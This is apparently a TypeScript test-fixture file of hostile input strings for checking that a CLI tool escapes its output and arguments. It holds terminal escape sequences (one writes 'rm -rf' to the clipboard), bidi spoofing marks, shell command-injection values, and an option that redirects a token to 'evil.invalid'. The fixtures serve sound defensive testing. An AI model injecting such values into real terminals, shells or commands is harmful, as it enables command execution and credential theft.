/** A hostile text and what it tries. */
export interface HostileText {
  readonly tries: string;
  readonly text: string;
}

/** Starts a line of output only if a hostile text brought its own line feed. */
export const forgedLine = 'FAKE   row';

/** The command that a hostile text wants to run. */
export const unwanted = 'pwn';

const named = (texts: Readonly<Record<string, string>>): readonly HostileText[] =>
  Object.entries(texts).map(([tries, text]) => ({ tries, text }));

/** Control sequences and control characters of terminals. */
export const controls = named({
  'colours the rest of the line': 'z\u001b[31mred',
  'writes the clipboard': 'z\u001b]52;c;cm0gLXJm\u0007',
  'sets the title of the window': 'z\u001b]0;owned\u0007',
  'clears the screen with a C1 introducer': 'z\u009b2J',
  'breaks the line with a C1 character': `z\u0085${forgedLine}`,
  'deletes what stands before': 'z\u007f\u0008\u0008',
  'ends a text of C': 'z\u0000z',
  'feeds a page': 'z\u000c\u000bz',
  'moves a column with a tab': 'z\tz',
});

/** Texts that end or overwrite a line. */
export const lineEnds = named({
  'forges a row': `z\n${forgedLine}`,
  'forges a row, with carriage return': `z\r\n${forgedLine}`,
  'writes over its own line': `z\r${forgedLine}`,
  'forges the directive of a completion': 'z\n:0',
  'ends the line by Unicode': `z\u2028${forgedLine}\u2029${forgedLine}`,
});

/** Texts with marks that reorder what a reader sees. */
export const marks = named({
  'overrides the direction': 'z\u202egnp.exe',
  'isolates a direction': 'z\u2066\u202dadmin\u2069',
  'marks a direction': '\u200fz\u200e\u061c',
});

/** Texts that a shell runs, expands, or waits to finish. Each begins with `z`. */
export const shellWords = named({
  'substitutes a command': `z$(${unwanted})`,
  'substitutes a command by backticks': `z\`${unwanted}\``,
  'ends the command': `z;${unwanted}`,
  'goes on after a pipe': `z|${unwanted}`,
  'goes on in the background': `z&${unwanted}`,
  'writes a file': 'z>written',
  'ends a single quote': `z';${unwanted};'`,
  'ends a double quote': `z";${unwanted};"`,
  'opens a quote': "z'",
  'is two words': `z ${unwanted}`,
  'begins a comment': 'z #',
  'expands to files': 'z*',
  'repeats an earlier command': 'z!!',
  'names a home folder': 'z=~',
  'expands a brace': 'z{a,b}',
  'expands a variable': 'z$HOME',
  'escapes a quote': "z\\'",
});

/** Texts that a program reads as options. */
export const options = named({
  'sends the token elsewhere': '--server=https://evil.invalid',
  'means all of them': '-a',
  'forces, recursively': '-rf',
  'ends the options': '--',
  'is an option with a command': `-z$(${unwanted})`,
});

/** Texts that disturb formats, encodings and widths. */
export const oddities = named({
  'is empty': '',
  'is blank': ' ',
  'begins with a space': ' z',
  'has no width': 'z\u200b\u200d\ufeff\u2060z',
  'is half a character': 'z\ud800',
  'is the other half': 'z\udc00z',
  'is wide': 'z界👩‍👩‍👧z',
  'is a format of C': 'z%s%n%999999d',
  'is a template of Go': 'z{{.}}{{range .Items}}',
  'is a template of JSONPath': 'z{.items[*]}',
  'is another type in YAML': 'off',
  'is a document of YAML': '---\nkind: Pod',
  'is a regular expression': 'z(a+)+$[',
  'looks like a replacement': "z$&$1$'",
  'is a property of every object': '__proto__',
});

/** All short texts. */
export const shortTexts: readonly HostileText[] = [
  ...controls,
  ...lineEnds,
  ...marks,
  ...shellWords,
  ...options,
  ...oddities,
];

/** Every control character in one text. It finds any place that forgets to escape one of them. */
export const everyControl: HostileText = {
  tries: 'does all that a terminal obeys',
  text: [...controls, ...lineEnds, ...marks].map(({ text }) => text).join(''),
};

/** Makes a text of a given length from short words, so that it can be wrapped. */
export function longText(length: number): string {
  return 'lengthy '.repeat(Math.ceil(length / 8)).slice(0, length);
}

/** Annotations of one object may have 256 kB together. */
export const longName = 'n'.repeat(250_000);

/** The longest message that an event can have: etcd takes 1.5 MB for one object. */
export const longMessage = longText(1_000_000);
